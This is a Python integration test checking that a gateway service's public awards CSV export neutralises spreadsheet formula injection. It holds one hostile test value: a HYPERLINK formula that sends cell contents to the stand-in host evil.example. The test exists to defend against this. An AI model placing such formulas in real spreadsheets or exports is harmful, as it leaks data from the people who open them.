"""GatewayService in a nameko container (real RabbitMQ, FerretDB, HTTP): the
public palmarès CSV, read chunk by chunk, never carries a live spreadsheet
formula, whatever a collectivité is called (services/common/csvsafe.py)."""

import csv
import io
import uuid

import pytest
import requests
from nameko.rpc import rpc

from services.awards.palmares import CSV_HEADER
from services.common.mongo import make_client
from services.gateway.app import GatewayService
from tests.support.config import service_config
from tests.support.net import free_port

INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


class FakeAwards:
    """Answers a released palmarès as the awards service would, in two chunks
    of rows, with a hostile name."""

    name = "awards"

    @rpc
    def palmares(self, year, role=None, region=None, lines=True):
        return {"year": year, "draft": False, "labelled": [], "stats": {}, "chunks": 2}

    @rpc
    def palmares_rows(self, year, role, chunk):
        if chunk == 0:
            return [
                CSV_HEADER[:8],
                [year, "25056", INJECTED, "ville", "+Bourgogne", "-25", 4, "@Télétravail"],
            ]
        return [[year, "38185", "Grenoble", "ville", "Auvergne-Rhône-Alpes", "38", 5, ""]]


@pytest.fixture
def gateway(container_factory, rabbit_config, mongodb_uri):
    prefix = f"it_gw_{uuid.uuid4().hex[:8]}_"
    port = free_port()
    config = service_config(  # deploy/config.yaml's defaults, then these
        rabbit_config,
        MONGODB_URI=mongodb_uri,
        MONGODB_DATABASE_PREFIX=prefix,
        WEB_SERVER_ADDRESS=f"127.0.0.1:{port}",
        LABEL_ADMIN_TOKEN="it-admin-" + "a" * 32,
        LABEL_SECRET_KEY="it-secret-" + "s" * 32,
        GATEWAY_REQUEST_TIMEOUT=10,
    )
    container_factory(FakeAwards, config).start()
    container_factory(GatewayService, config).start()
    yield f"http://127.0.0.1:{port}"
    make_client(mongodb_uri).drop_database(f"{prefix}gateway")


def test_the_palmares_csv_neutralises_formulas(gateway):
    response = requests.get(f"{gateway}/api/v1/campaigns/2031/palmares.csv", timeout=30)
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert rows[1] == ["2031", "25056", "'" + INJECTED, "ville", "'+Bourgogne", "'-25", "4", "'@Télétravail"]
    assert rows[0][0] == "annee" and rows[2][2] == "Grenoble" and len(rows) == 3
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
